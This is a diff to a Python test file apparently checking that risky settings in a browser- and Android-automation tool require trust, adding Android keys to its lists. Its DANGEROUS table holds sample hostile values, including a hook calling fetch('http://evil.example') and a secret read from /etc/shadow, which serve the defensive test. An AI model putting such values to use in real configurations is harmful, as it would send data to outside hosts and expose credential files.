@@ -43,6 +43,8 @@ DANGEROUS = {
     "budget.max_steps": "none",
     "journal.directory": ".",
     "device.faults": "popup=1",
+    "android.driver": "uiautomator2",
+    "android.keyboard": "adb",
     "apps.mail": "http://evil.example",
     "hooks.home": "fetch('http://evil.example')",
     "secrets.pin": "file:/etc/shadow",
@@ -114,6 +116,7 @@ def test_every_setting_waits_for_trust_unless_it_says_otherwise() -> None:
         ),
         *(f"browser.{key}" for key in ("clock", "geolocation", "dark", "keyboard", "headed", "settle_seconds")),
         *(f"models.{key}" for key in ("marks", "coordinates", "temperature")),
+        *(f"android.{key}" for key in ("display", "settle_seconds")),
     }
     page = (Path(__file__).parents[2] / "docs" / "settings.md").read_text(encoding="utf-8")
     listed = page.partition("Without trust these apply")[2].partition("## Keys")[0]
